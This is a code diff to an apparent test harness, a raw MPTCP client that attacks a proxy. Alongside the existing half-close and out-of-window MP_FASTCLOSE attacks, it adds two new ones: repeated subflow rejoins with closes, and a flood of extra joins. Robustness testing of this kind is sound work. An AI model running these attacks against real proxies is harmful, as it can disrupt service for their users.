@@ -5,6 +5,8 @@ it from the others, and receives what the proxy sends. It begins the ATTACK at S
 
     half-close   DATA_FIN, and FIN on the first subflow; it goes on receiving
     fast-close   ten MP_FASTCLOSE per second with the proxy's key, far outside the window
+    rejoin       it joins from the first address again and again, and has each subflow closed (FIN) half a second later
+    crowd        it joins ten times more from the first address, and then from the others, which it does not do before
 
 IPv4 only. The kernel there must not reset what it knows nothing of: see `attack.prepare`.
 """
@@ -13,6 +15,7 @@ from __future__ import annotations
 
 import hashlib
 import hmac
+import itertools
 import random
 import select
 import signal
@@ -30,6 +33,10 @@ from mptcp_sniffer.segment import Flag, parse_ip
 _WORD: Final = 0xFFFF_FFFF
 _LONG: Final = 0xFFFF_FFFF_FFFF_FFFF
 _RETRY_SECONDS: Final = 0.2
+_SIGNAL_SECONDS: Final = 0.1
+_REJOIN_SECONDS: Final = 0.5
+_CROWD: Final = 10
+_MOST_SUBFLOWS: Final = 4  # of the attack `rejoin`; the kernel permits eight besides the first
 _WINDOW_SHIFT: Final = 7
 _WINDOW: Final = 0xFFFF  # 8 MB
 _BUFFER_BYTES: Final = 2**23
@@ -144,17 +151,17 @@ class _Subflow:
 
 
 class RawClient:
-    """A connection to the proxy, from `addresses`."""
+    """A connection to the proxy."""
 
-    def __init__(self, proxy: str, port: int, addresses: list[str]) -> None:
+    def __init__(self, proxy: str, port: int, address: str) -> None:
+        self._proxy = proxy, port
         self._key = random.randbytes(8)  # noqa: S311
         self._proxys_key = b""
         self._data = _Intervals()
         self._data_acked = 0
-        self._subflows = [_Subflow(address, proxy, port) for address in addresses]
+        self._subflows = [_Subflow(address, proxy, port)]
+        self._ids = itertools.count(1)
         self._open()
-        for number, subflow in enumerate(self._subflows[1:], 1):
-            self._join(subflow, number)
 
     def _open(self) -> None:
         first = self._subflows[0]
@@ -166,13 +173,16 @@ class RawClient:
         while not self._data.next:
             self.receive(_RETRY_SECONDS)
 
-    def _join(self, subflow: _Subflow, address_id: int) -> None:
+    def join(self, address: str) -> None:
+        """Add a subflow."""
+        subflow, address_id = _Subflow(address, *self._proxy), next(self._ids) % 255 + 1
         nonce = random.randbytes(4)  # noqa: S311
         token = token_of(1, self._proxys_key)
         answer = self._exchange(subflow, bytes((_JOIN, address_id)) + token.to_bytes(4) + nonce)
         (theirs,) = (body[10:14] for body in answer.bodies if body[0] >> 4 == _JOIN >> 4)
         proof = hmac.digest(self._key + self._proxys_key, nonce + theirs, "sha256")[:20]
         subflow.send(Flag.ACK, bytes((_JOIN, 0)) + proof)
+        self._subflows.append(subflow)
 
     def _exchange(self, subflow: _Subflow, body: bytes) -> _Received:
         """Send a SYN until it is answered."""
@@ -219,21 +229,32 @@ class RawClient:
 
     def close_half(self) -> None:
         """Close this side: the connection's, and the first subflow's."""
-        first = self._subflows[0]
         while not self._data_acked:
-            first.send(Flag.ACK, self._dss(fin=True))
-            self._receive_for(_RETRY_SECONDS)
-        closing, first.next = first.next, (first.next + 1) & _WORD
-        while first.acknowledged != first.next:
-            first.send(Flag.FIN | Flag.ACK, self._dss(), sequence=closing)
-            self._receive_for(_RETRY_SECONDS)
+            self._subflows[0].send(Flag.ACK, self._dss(fin=True))
+            self.receive_for(_RETRY_SECONDS)
+        self._close(self._subflows[0])
+
+    def _close(self, subflow: _Subflow) -> None:
+        closing, subflow.next = subflow.next, (subflow.next + 1) & _WORD
+        while subflow.acknowledged != subflow.next:
+            subflow.send(Flag.FIN | Flag.ACK, self._dss(), sequence=closing)
+            self.receive_for(_RETRY_SECONDS)
+
+    def rejoin(self) -> None:
+        """Join from the first address, and have that subflow closed."""
+        self.join(self._subflows[0].address)
+        self.receive_for(_REJOIN_SECONDS)
+        self._close(self._subflows[-1])
+        # What the oldest still receives is of no use: the proxy has sent it on others, too.
+        self._subflows[1:-_MOST_SUBFLOWS] = []
 
     def fast_close(self) -> None:
         """MP_FASTCLOSE as the proxy's kernel ignores it."""
         first = self._subflows[0]
         first.send(Flag.ACK, bytes((_FASTCLOSE, 0)) + self._proxys_key, sequence=first.next + _OUTSIDE)
 
-    def _receive_for(self, seconds: float) -> None:
+    def receive_for(self, seconds: float) -> None:
+        """Receive and acknowledge for so long."""
         until = time.monotonic() + seconds
         while (left := until - time.monotonic()) > 0:
             self.receive(left)
@@ -263,22 +284,29 @@ def main(attack: str, proxy: str, port: int, addresses: list[str]) -> None:
     """Receive until the end; attack from SIGUSR1 on."""
     begin: list[bool] = []
     signal.signal(signal.SIGUSR1, lambda *_: begin.append(True))
-    client = RawClient(proxy, port, addresses)
+    first, *others = addresses
+    client = RawClient(proxy, port, first)
+    for address in others if attack != "crowd" else ():
+        client.join(address)
     print("receiving", flush=True)
     while not begin:
         client.receive(_RETRY_SECONDS)
     if attack == "half-close":
         client.close_half()
+    if attack == "crowd":
+        for address in (*[first] * _CROWD, *others):
+            client.join(address)
+            client.receive_for(_SIGNAL_SECONDS)
     print("attacking", flush=True)
-    due = 0.0
     while True:
-        if attack == "fast-close" and time.monotonic() >= due:
+        if attack == "fast-close":
             client.fast_close()
-            due = time.monotonic() + 0.1
-        client.receive(0.1)
+        if attack == "rejoin":
+            client.rejoin()
+        client.receive_for(_SIGNAL_SECONDS)
 
 
 if __name__ == "__main__":
     match sys.argv[1:]:
-        case ["half-close" | "fast-close" as attack, proxy, port, *addresses]:
+        case ["half-close" | "fast-close" | "rejoin" | "crowd" as attack, proxy, port, *addresses]:
             main(attack, proxy, int(port), addresses)
